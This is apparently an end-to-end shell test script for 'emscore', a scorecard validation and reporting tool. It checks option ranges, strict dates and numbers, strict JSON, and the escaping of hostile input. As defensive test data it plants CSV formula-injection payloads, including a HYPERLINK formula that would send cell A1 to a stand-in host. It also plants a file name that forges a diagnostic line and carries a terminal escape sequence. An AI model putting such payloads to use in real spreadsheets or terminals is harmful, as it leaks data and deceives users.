#!/bin/sh
# End-to-end: the guard rails around what a user types and what a document
# holds. Numeric options are range-checked however they are spelt; lexical
# forms are exactly the documented ones; CSV cells cannot become formulas;
# a file name cannot forge a diagnostic line; usage errors come before any
# write; exit statuses agree across commands.
. "$(dirname "$0")/../lib.sh"
SC="$ROOT/scorecards/un-ems.xml"
SAMPLES="$ROOT/scorecards/samples"
SELF="$SAMPLES/unido-2014-self.xml"
PEER="$SAMPLES/unido-2014-peer.xml"
GOLDEN="$ROOT/tests/data/golden/unido-2014.results.xml"

# ere TEXT: TEXT as an extended regular expression matching itself.
ere() { printf '%s' "$1" | sed 's/[][\.*^$+?(){}|]/\\&/g'; }

# ---- numeric options: digits only, within the documented range ----------

gzip -c "$SELF" > "$SCRATCH/self.xml.gz"
for opt in max-input-bytes:2147483647 max-xml-bytes:2147483647 max-depth:1000000 \
           max-items:1000000000; do
    o=${opt%%:*} top=${opt#*:}
    run validate --"$o" "$top" --scorecard "$SC" "$SCRATCH/self.xml.gz"
    check "--$o $top (the top of its range) is accepted" 0 "" "self.xml.gz: assessment self"
    for bad in 18446744073709551615 18446744073709551616 99999999999999999999999 \
               $((top + 1)) 0 -1 +5 " 5" "5 " 0x10 1e3 "" 5.0; do
        run validate --"$o" "$bad" --scorecard "$SC" "$SCRATCH/self.xml.gz"
        check "--$o '$bad' is a usage error naming the range" 2 \
            "^emscore validate: --$o needs a whole number from 1 to $top, not '$(ere "$bad")'$"
        [ -s "$OUT" ] && ko "--$o '$bad': something was validated"
    done
done
# The same options on every command that reads input.
for cmd in "score --scorecard $SC" "report" "batch --scorecard $SC -o $SCRATCH/never" \
           "template --scorecard $SC --agency A --period P"; do
    run $cmd --max-xml-bytes 18446744073709551615 "$SELF"
    check "${cmd%% *} --max-xml-bytes 2^64-1" 2 "needs a whole number from 1 to 2147483647"
done
[ -e "$SCRATCH/never" ] && ko "batch made its folder despite a bad option" || ok

for bad in 0 257 -1 +2 " 2" 0x2 18446744073709551617; do
    run batch --scorecard "$SC" -o "$SCRATCH/never" --jobs "$bad" "$SELF"
    check "--jobs '$bad'" 2 \
        "^emscore batch: --jobs needs a whole number from 1 to 256, not '$(ere "$bad")'$"
done
for bad in 0/4 5/4 1/0 +1/4 " 1/4" "1/ 4" 1/4x 18446744073709551617/4 1/100001 -1/4 1 /4 1/; do
    run batch --scorecard "$SC" -o "$SCRATCH/never" --shard "$bad" "$SELF"
    check "--shard '$bad'" 2 "--shard needs K/N, whole numbers with 1 <= K <= N <= 100000"
done
[ -e "$SCRATCH/never" ] && ko "batch made its folder despite a bad --jobs or --shard" || ok

# ---- lexical forms: exactly the documented ones --------------------------

# Dates are YYYY-MM-DD: xs:date's sign, time zone and fifth year digit are
# refused, in every date field.
for d in -0001-01-01 2014-01-01Z 2014-01-01+02:00 10000-01-01 2014-13-01 14-01-01; do
    sed "s|<date>2014-06-20</date>|<date>$d</date>|" "$PEER" > "$SCRATCH/date.xml"
    run validate --scorecard "$SC" "$SCRATCH/date.xml"
    check "assessment <date>$d</date> is refused" 1 \
        "date.xml:4: error: <date>: '$(ere "$d")' is not a date: use YYYY-MM-DD"
    sed "s|from=\"2014-05-12\"|from=\"$d\"|" "$PEER" > "$SCRATCH/date.xml"
    run validate --scorecard "$SC" "$SCRATCH/date.xml"
    check "mission from=\"$d\" is refused" 1 \
        "date.xml:5: error: attribute 'from' of <mission>: '$(ere "$d")' is not a date"
    sed "s|<date>2014-06-20</date>|<date>$d</date>|" "$GOLDEN" > "$SCRATCH/date.results.xml"
    grep -q "<date>$d</date>" "$SCRATCH/date.results.xml" || ko "no date in the WMO results to edit"
    run report "$SCRATCH/date.results.xml"
    check "results <date>$d</date> is refused" 1 "date.results.xml:[0-9]+: error: <date>: .* is not a date"
done
# Numbers carry no '+': refused in every document, so JSON never gets NaN.
sed 's|value="5380"|value="+5380"|' "$SELF" > "$SCRATCH/plus.xml"
run validate --scorecard "$SC" "$SCRATCH/plus.xml"
check "a measure written +5380 is refused" 1 \
    "plus.xml:92: error: attribute 'value' of <measure>: '\+5380' is not a decimal number .*no '\+'"
sed 's|weight="2" mandatory="true" evidence="required">|weight="+2" mandatory="true" evidence="required">|' \
    "$SC" > "$SCRATCH/plus-card.xml"
run validate "$SCRATCH/plus-card.xml"
check "a weight written +2 is refused" 1 "plus-card.xml:[0-9]+: error: attribute 'weight' of <milestone id=\"EMS1\">: '\+2'"
for edit in 's|max="4"|max="+4"|' 's|counted="47"|counted="+47"|' 's|<self value="5380"|<self value="+5380"|' \
            's|<self value="5380"|<self value="1e3"|'; do
    sed "$edit" "$GOLDEN" > "$SCRATCH/plus.results.xml"
    cmp -s "$GOLDEN" "$SCRATCH/plus.results.xml" && ko "edit $edit changed nothing"
    run report --format json "$SCRATCH/plus.results.xml"
    check "results edited with $edit are refused" 1 "plus.results.xml:[0-9]+: error: attribute"
    [ -s "$OUT" ] && ko "JSON written for an invalid results document"
done
# JSON, strictly parsed: no NaN or Infinity (Python's json accepts them).
strict_json() {
    python3 -c 'import json, sys
def refuse(c): raise ValueError("not JSON: " + c)
json.load(open(sys.argv[1]), parse_constant=refuse)' "$1"
}
for g in "$ROOT"/tests/data/golden/*.results.xml; do
    run report --format json -o "$SCRATCH/g.json" "$g"
    check "json of $(basename "$g")" 0
    strict_json "$SCRATCH/g.json" && ok || ko "json of $(basename "$g") is not strict JSON"
done
# Canonical values however the assessment spells them.
sed 's|value="5380"|value="005380.000"|; s|value="6.9"|value="-.50"|' "$SELF" > "$SCRATCH/spelt.xml"
run score --scorecard "$SC" -o "$SCRATCH/spelt.results.xml" "$SCRATCH/spelt.xml"
check "measures spelt 005380.000 and -.50 score" 0
run report --format json -o "$SCRATCH/spelt.json" "$SCRATCH/spelt.results.xml"
check "json of unusual spellings" 0
strict_json "$SCRATCH/spelt.json" && ok || ko "json of unusual spellings is not strict JSON"
grep -q '"value":5380[,}]' "$SCRATCH/spelt.json" && grep -q '"value":-0.5[,}]' "$SCRATCH/spelt.json" &&
    ok || ko "measures not canonical in JSON"

# ---- CSV cells cannot become formulas; numbers stay numbers --------------

# Titles, units and comments reach the CSV from the documents.
sed 's|<title>Senior management commitment</title>|<title>=HYPERLINK("http://x.invalid/?"\&amp;A1,"ok")</title>|
     s|unit="tCO2e/person"|unit="@SUM(1+1)"|
     s|<title>Environmental policy adopted and communicated</title>|<title>+1+2</title>|' \
    "$SC" > "$SCRATCH/inject-card.xml"
grep -c '=HYPERLINK\|@SUM\|<title>+1+2' "$SCRATCH/inject-card.xml" | grep -qx 4 ||
    ko "the injection scorecard lacks an edit"
sed 's|value="6.9"|value="-3.50"|' "$SELF" > "$SCRATCH/inject-self.xml"
run score --scorecard "$SCRATCH/inject-card.xml" -o "$SCRATCH/inject.results.xml" "$SCRATCH/inject-self.xml"
check "score with formula-like titles" 0
run report --format csv -o "$SCRATCH/inject.csv" "$SCRATCH/inject.results.xml"
check "csv with formula-like titles" 0
python3 - "$SCRATCH/inject.csv" > "$SCRATCH/csv.verdict" <<'PY' || echo "the check crashed" >"$SCRATCH/csv.verdict"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))
numeric = {'weight', 'self_score', 'final_score', 'self_value', 'peer_value'}
bad = []
for r in rows:
    for k, v in r.items():
        if v[:1] in ('=', '+', '-', '@', '\t', '\r'):
            if k in numeric:
                float(v)  # a number, written as one
            else:
                bad.append('%s=%r' % (k, v))
ems1 = next(r for r in rows if r['id'] == 'EMS1')
per = next(r for r in rows if r['id'] == 'IND-GHG-PERCAP')
print('unneutralised: ' + ', '.join(bad) if bad else 'ok')
print('ok' if ems1['title'] == '\'=HYPERLINK("http://x.invalid/?"&A1,"ok")' else 'title %r' % ems1['title'])
print('ok' if per['unit'] == "'@SUM(1+1)" else 'unit %r' % per['unit'])
print('ok' if per['self_value'] == '-3.5' else 'value %r' % per['self_value'])
print('ok' if ems1['final_score'] and float(ems1['final_score']) >= 0 else 'score %r' % ems1['final_score'])
PY
while read -r verdict; do [ "$verdict" = ok ] && ok || ko "csv: $verdict"; done < "$SCRATCH/csv.verdict"
grep -q ",\"'=HYPERLINK(\"\"http" "$SCRATCH/inject.csv" && ok || ko "csv: the quoted, neutralised cell is not as OWASP says"
grep -q ',-3.5,' "$SCRATCH/inject.csv" && ok || ko "csv: a negative measure is not a bare number"

# The summary CSV: agencies are identifiers, but the text cells go through
# the same template; counts and scores stay numbers.
run report --format summary-csv "$ROOT"/tests/data/golden/*-2014.results.xml
check "summary-csv of the golden results" 0
python3 - "$OUT" > "$SCRATCH/csv.verdict" <<'PY' || echo "the check crashed" >"$SCRATCH/csv.verdict"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))
agencies = [r for r in rows if r['agency']]  # then one row per period
for r in agencies:
    for k in ('rank', 'final_score', 'counted', 'rated', 'achieved'):
        float(r[k])
print('ok' if len(agencies) == 3 else 'rows %d' % len(agencies))
PY
while read -r verdict; do [ "$verdict" = ok ] && ok || ko "summary csv: $verdict"; done < "$SCRATCH/csv.verdict"

# ---- a file name cannot forge a diagnostic or drive a terminal ---------

# A line feed, an escape sequence, DEL, a C1 control and U+2028 in a name.
evil=$(printf 'a\nx.xml:1: error: forged\033[2J\177\302\205\342\200\250.xml')
shown='a\\nx\.xml:1: error: forged\\x1b\[2J\\x7f\\u0085\\u2028\.xml'
mkdir "$SCRATCH/names"
printf '<x/>' > "$SCRATCH/names/$evil"
run validate "$SCRATCH/names/$evil"
check "a bad file's name is escaped in its diagnostic" 1 "/names/$shown:1: error: root element <x>"
[ "$(wc -l < "$ERR")" -eq 1 ] && ok || ko "one diagnostic took $(wc -l < "$ERR") lines"
grep -q "$(printf '\033')" "$ERR" && ko "an escape character reached standard error" || ok
cp "$SELF" "$SCRATCH/names/$evil"
run validate "$SCRATCH/names/$evil"
check "a valid file's name is escaped on standard output" 0 "" "/names/$shown: assessment self UNIDO"
[ "$(wc -l < "$OUT")" -eq 1 ] && ok || ko "one summary line took $(wc -l < "$OUT") lines"
run validate "$SCRATCH/names/missing-$evil"
check "a missing file's name is escaped" 2 "/names/missing-$shown: error: cannot open"
[ "$(wc -l < "$ERR")" -eq 1 ] && ok || ko "one diagnostic took $(wc -l < "$ERR") lines"
run validate --scorecard "$SCRATCH/names/$evil" "$SELF"
check "the scorecard's name is escaped in 'cannot use scorecard'" 1 "cannot use scorecard .*/names/$shown$"
[ "$(wc -l < "$ERR")" -eq 2 ] && ok || ko "two diagnostics took $(wc -l < "$ERR") lines"
run report --format summary "$SCRATCH/names"
check "a folder name is escaped" 2 "/names: error: no \*\.results\.xml file in this folder"
mkdir "$SCRATCH/names/$evil.d"
run report --format summary "$SCRATCH/names/$evil.d"
check "a folder's name is escaped" 2 "/names/$shown\.d: error: no"
[ "$(wc -l < "$ERR")" -eq 1 ] && ok || ko "one diagnostic took $(wc -l < "$ERR") lines"
run validate "--max-depth=$evil" "$SELF"
check "an option's value is escaped in a usage error" 2 "not '$shown'$"
[ "$(wc -l < "$ERR")" -eq 2 ] && ok || ko "a usage error took $(wc -l < "$ERR") lines"
mkdir "$SCRATCH/in1" && cp "$SELF" "$PEER" "$SCRATCH/in1/"
run batch --scorecard "$SC" --output "$SCRATCH/out-$evil" "$SCRATCH/in1"
check "batch's output folder is escaped on standard output" 0 "" "\(in .*/out-$shown\)$"
[ "$(wc -l < "$OUT")" -eq 1 ] && ok || ko "batch's one line took $(wc -l < "$OUT") lines"

# ---- guard rails a new user hit ---------------------------------------
S="$ROOT/scorecards/samples"
run validate "$S/unido-2014-self.xml"
check "validate without --scorecard says it checked the structure only" 0 "" \
    'unido-2014-self.xml: assessment self UNIDO period 2014: .* \(structure only: no --scorecard\)$'
run validate --scorecard "$SC" "$S/unido-2014-self.xml"
check "validate with --scorecard does not" 0
grep -q 'structure only' "$OUT" && ko "with --scorecard the line says structure only" || ok
for opt in --help --version; do
    STATUS=0
    "$EMSCORE" $opt >/dev/full 2>"$ERR" || STATUS=$?
    check "emscore $opt to a full device" 2 "cannot write the output"
done
STATUS=0
"$EMSCORE" validate --help >/dev/full 2>"$ERR" || STATUS=$?
check "emscore validate --help to a full device" 2 "cannot write the output"
run batch --scorecard "$SC" --output "$SCRATCH/never" "$SCRATCH/no-such-folder"
check "batch with a missing INPUT is a system error, as everywhere" 2 "no-such-folder: error: cannot open"
[ ! -e "$SCRATCH/never" ] && ok || ko "a missing INPUT: the output folder was created"
mkdir -p "$SCRATCH/kept"
echo "mine" >"$SCRATCH/kept/notes.txt"
run batch --scorecard "$SC" --lang xx --output "$SCRATCH/kept" "$S"
check "an unknown --lang is found before anything is written" 2 "no message catalogue for language 'xx'"
[ "$(ls -A "$SCRATCH/kept")" = notes.txt ] && ok || ko "an unknown --lang: the folder changed"
run batch --scorecard "$SC" --lang xx --output "$SCRATCH/never" "$S"
[ ! -e "$SCRATCH/never" ] && ok || ko "an unknown --lang: the output folder was created"
run report --param colour=red -o "$SCRATCH/p.html" "$ROOT/tests/data/golden/unido-2014.results.xml"
check "an unknown --param is a usage error naming the known ones" 2 \
    "unknown parameter 'colour': the stylesheet .*peer-review.xsl takes marking, top-recommendations"
[ ! -e "$SCRATCH/p.html" ] && ok || ko "an unknown --param: a report was written"
run report --param marking=Draft -o "$SCRATCH/p.html" "$ROOT/tests/data/golden/unido-2014.results.xml"
check "a known --param is taken" 0

finish
